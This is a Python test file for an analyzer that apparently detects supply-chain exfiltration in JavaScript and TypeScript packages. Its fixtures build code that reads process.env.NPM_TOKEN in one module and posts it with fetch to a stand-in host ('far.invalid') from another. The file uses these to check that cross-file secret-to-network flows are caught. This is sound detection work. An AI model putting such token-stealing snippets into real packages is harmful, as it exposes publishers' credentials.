"""Files of a package read as one."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language, Taint
from pratique.analysis.languages import javascript

TAKES = "process.env.NPM_TOKEN"
SENDS = "fetch('https://far.invalid/x', { method: 'POST', body: {} })"


def read(*sources: str, language: Language = Language.JAVASCRIPT) -> tuple[FileFacts, tuple[int, ...]]:
    """The facts of an entry and of ./a, ./b and so on, read as one; and the lines before each."""
    asks = {f"./{chr(ord('a') + number)}": number + 1 for number in range(len(sources) - 1)}
    source, lines = javascript.together([javascript.Part(text.encode(), asks) for text in sources], language)
    return javascript.extract(source, language, modules={}), lines


def leaves(*sources: str, language: Language = Language.JAVASCRIPT) -> bool:
    """Whether what is taken is sent at load."""
    return any(
        flow.at_load and flow.sink is Capability.NETWORK and Taint.SECRETS in flow.taints
        for flow in read(*sources, language=language)[0].flows
    )


@pytest.mark.parametrize(
    ("entry", "other"),
    [
        ("require('./a').go()", "exports.go = () => TAKES"),
        ("go()", "exports.go = () => TAKES"),
        ("a.go()", "exports.go = () => TAKES"),
        ("a.go()", "module.exports = { go() { return TAKES } }"),
        ("require('./a')()", "module.exports = function () { return TAKES }"),
        ("require('./a')", "module.exports = TAKES"),
        ("require('./a').token", "exports.token = TAKES"),
        ("new (require('./a'))().go()", "module.exports = class { go() { return TAKES } }"),
        ("(await import('./a')).go()", "exports.go = async () => TAKES"),
    ],
)
def test_what_another_file_gives_is_followed(entry: str, other: str) -> None:
    asks = "const a = require('./a'), { go } = a;\n"
    assert leaves(asks + SENDS.replace("{}", entry), other.replace("TAKES", TAKES))


@pytest.mark.parametrize(
    ("entry", "other"),
    [
        ("require('./a').go(TAKES)", "exports.go = (x) => SENDS"),
        ("const { go } = require('./a'); go(TAKES)", "exports.go = function (x) { SENDS }"),
        ("require('./a')(TAKES)", "module.exports = x => SENDS"),
        ("const a = require('./a'); a.go(TAKES)", "exports.go = function (x) { SENDS }"),
    ],
)
def test_what_another_file_is_given_is_followed(entry: str, other: str) -> None:
    assert leaves(entry.replace("TAKES", TAKES), other.replace("SENDS", SENDS.replace("{}", "x")))


@pytest.mark.parametrize(
    ("imported", "exported"),
    [
        ("import { go } from './a'", "export function go() { return TAKES }"),
        ("import { run as go } from './a'", "const f = () => TAKES\nexport { f as run }"),
        ("import go from './a'", "export default function () { return TAKES }"),
        ("import go from './a'", "export default () => TAKES"),
        ("import go from './a'", "export default function named() { return TAKES }"),
        ("import go from './a'", "module.exports = () => TAKES"),
        ("import * as all from './a'\nconst go = all.go", "export const go = () => TAKES"),
        ("import x, { go } from './a'", "export const go = () => TAKES"),
    ],
)
@pytest.mark.parametrize("language", [Language.JAVASCRIPT, Language.TYPESCRIPT])
def test_modules_of_the_newer_kind_are_put_together_too(
    imported: str, exported: str, language: Language
) -> None:
    entry = f"{imported}\n{SENDS.replace('{}', 'go()')}"
    assert leaves(entry, exported.replace("TAKES", TAKES), language=language)


def test_three_files_are_followed_from_one_to_the_other() -> None:
    entry = "const { send } = require('./a');\nconst { take } = require('./b');\nsend(take());\n"
    sends = f"exports.send = (x) => {SENDS.replace('{}', 'x')};\n"
    assert leaves(entry, sends, f"exports.take = () => {TAKES};\n")


def test_what_is_handed_on_from_a_third_file_is_followed() -> None:
    assert leaves(
        SENDS.replace("{}", "require('./a').go()"),
        "export { take as go } from './b'",
        f"export const take = () => {TAKES}",
    )


def test_lines_are_those_of_the_files() -> None:
    entry = "#!/usr/bin/env node\n\nrequire('./a')(\n  process.env.NPM_TOKEN\n);\n"
    other = f"import {{\n  x,\n}} from './b';\nmodule.exports = y => {SENDS.replace('{}', 'y')};\n"
    facts, lines = read(entry, other, "export const x = 1;\n")
    (flow,) = facts.flows
    assert (flow.line - lines[1], flow.origin_line - lines[0]) == (4, 4)


def test_names_of_one_file_are_none_of_another() -> None:
    assert not leaves(SENDS.replace("{}", "token"), f"const token = {TAKES};")


def test_a_file_that_does_not_parse_is_left_out() -> None:
    facts, lines = read(
        f"{SENDS.replace('{}', TAKES)};\nrequire('./a')", "/* never ended\n\n\n", "exports.b = 1;"
    )
    assert facts.flows
    assert lines[2] - lines[1] == lines[1] + 2


_SOURCES = st.lists(
    st.sampled_from(
        (
            "exports.a = 1;\n",
            "module.exports = require('./a');\n",
            "import {b} from './b';\n",
            "export * from './a';\n",
            "export default class {}\n",
            "#!x\n",
            "function f(exports) {}\n",
            "}\n",
            "`${require('./a')}\n`;\n",
            "\n",
            "export {a as b} from './a';\n",
            "export const {x, y: [z]} = q;\n",
            "import('./b').then(b => b());\n",
        )
    ),
    max_size=6,
).map("".join)


@given(st.lists(_SOURCES, min_size=1, max_size=3))
def test_any_files_keep_their_lines(sources: list[str]) -> None:
    asks = {"./a": 1, "./b": 2}
    parts = [
        javascript.Part(text.encode(), {name: at for name, at in asks.items() if at < len(sources)})
        for text in sources
    ]
    whole, lines = javascript.together(parts, Language.JAVASCRIPT)
    heights = [text.count("\n") + 2 for text in sources]
    assert [sum(heights[:number]) for number in range(len(sources))] == list(lines)
    assert whole.count(b"\n") == sum(heights) + 1
